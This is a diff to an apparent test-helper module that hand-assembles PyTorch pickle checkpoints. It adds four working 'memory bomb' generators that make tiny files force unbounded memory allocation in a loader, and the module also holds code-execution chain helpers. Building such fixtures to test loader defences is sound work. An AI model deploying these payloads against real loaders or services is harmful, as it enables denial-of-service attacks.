@@ -19,7 +19,7 @@ import torch
 __all__ = [
     'Asm', 'write_zip_checkpoint', 'write_legacy_checkpoint',
     'write_tar_checkpoint', 'splice_into_checkpoint', 'getattr_eval_chain',
-    'marker_code'
+    'marker_code', 'MEMORY_BOMBS', 'write_memory_bomb'
 ]
 
 
@@ -55,6 +55,11 @@ class Asm:
 
     def int(self, value):  # BININT
         return self.op(b'J' + struct.pack('<i', value))
+
+    def long(self, value):  # LONG1: any int, e.g. a size above 2**31
+        data = value.to_bytes(
+            value.bit_length() // 8 + 1, 'little', signed=True)
+        return self.op(b'\x8a' + bytes([len(data)]) + data)
 
     def none(self):
         return self.op(b'N')
@@ -103,6 +108,9 @@ class Asm:
 
     def newobj(self):
         return self.op(b'\x81')
+
+    def persid(self):  # BINPERSID
+        return self.op(b'Q')
 
     def put(self, idx):  # LONG_BINPUT
         return self.op(b'r' + struct.pack('<I', idx))
@@ -212,3 +220,92 @@ def getattr_eval_chain(code):
 def marker_code(path):
     """A Python expression that creates ``path`` (the proof of execution)."""
     return f'open({str(path)!r}, "w").close()'
+
+
+# --------------------------------------------------------------------------
+# memory bombs: small files that make a loader allocate ``nbytes``
+
+
+def _state_dict_of(value):
+    """``{'state_dict': {'w': <value>}}`` around an Asm pushing one object."""
+    a = Asm().empty_dict().str('state_dict').empty_dict().str('w')
+    a.out += value.out
+    return a.setitem().setitem()
+
+
+def _storage(key, numel, storage='FloatStorage'):
+    """The persistent id of storage record ``data/<key>`` (zip format)."""
+    a = Asm().mark().str('storage').glob('torch', storage).str(key)
+    return a.str('cpu').long(numel).tuple().persid()
+
+
+def _bytearray_bomb(nbytes):
+    return Asm().glob('builtins', 'bytearray').long(nbytes).tuple1().reduce()
+
+
+def _uninitialised_tensor_bomb(nbytes):
+    # torch.Tensor(n): n float32 elements of whatever memory held
+    return Asm().glob('torch', 'Tensor').long(nbytes // 4).tuple1().reduce()
+
+
+def _zero_stride_bomb(nbytes):
+    # a (n,) view with stride 0 on the template's 2-float storage, copied
+    # to float64 by the allowlisted device-rebuild helper
+    view = Asm().glob('torch._utils', '_rebuild_tensor_v2').mark()
+    view.out += _storage('0', 2).out
+    view.int(0).long(nbytes // 8).tuple1().int(0).tuple1().false()
+    view.glob('collections', 'OrderedDict').empty_tuple().reduce()
+    view.tuple().reduce()
+    a = Asm().glob('torch._utils', '_rebuild_device_tensor_from_cpu_tensor')
+    a.mark().op(view.out).glob('torch', 'float64').str('cpu').false()
+    return a.tuple().reduce()
+
+
+def _deflated_record_bomb(nbytes):
+    storage = Asm().glob('torch._utils', '_rebuild_tensor_v2').mark()
+    storage.out += _storage('0', nbytes, 'ByteStorage').out
+    storage.int(0).long(nbytes).tuple1().int(1).tuple1().false()
+    storage.glob('collections', 'OrderedDict').empty_tuple().reduce()
+    return storage.tuple().reduce()
+
+
+#: kind -> function of nbytes -> Asm pushing the bomb (``write_memory_bomb``)
+MEMORY_BOMBS = {
+    'bytearray': _bytearray_bomb,
+    'uninitialised tensor': _uninitialised_tensor_bomb,
+    'zero-stride view': _zero_stride_bomb,
+    'deflated record': _deflated_record_bomb,
+}
+
+
+def write_memory_bomb(path, kind, nbytes):
+    """A torch zip checkpoint of a few hundred bytes that makes a loader
+    without bounds allocate ``nbytes`` (``kind`` in :data:`MEMORY_BOMBS`).
+
+    ``'deflated record'`` holds ``nbytes`` zero bytes in a deflated
+    ``data/0`` record (about ``nbytes / 1000`` bytes on disk; torch.save
+    never compresses); the others reuse a tiny template's 8-byte record.
+    """
+    pickle_bytes = _state_dict_of(MEMORY_BOMBS[kind](nbytes)).bytes()
+    if kind != 'deflated record':
+        return write_zip_checkpoint(path, pickle_bytes)
+    src = zipfile.ZipFile(io.BytesIO(_template_zip()))
+    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as dst:
+        for info in src.infolist():
+            if info.filename.endswith('/data/0'):
+                deflated = zipfile.ZipInfo(info.filename)
+                deflated.compress_type = zipfile.ZIP_DEFLATED
+                with dst.open(deflated, 'w', force_zip64=True) as out:
+                    _write_zeros(out, nbytes)
+                continue
+            data = src.read(info.filename)
+            if info.filename.endswith('/data.pkl'):
+                data = pickle_bytes
+            dst.writestr(info.filename, data)
+    return path
+
+
+def _write_zeros(out, nbytes, chunk=1 << 20):
+    zeros = bytes(chunk)
+    for start in range(0, nbytes, chunk):
+        out.write(zeros[:min(chunk, nbytes - start)])
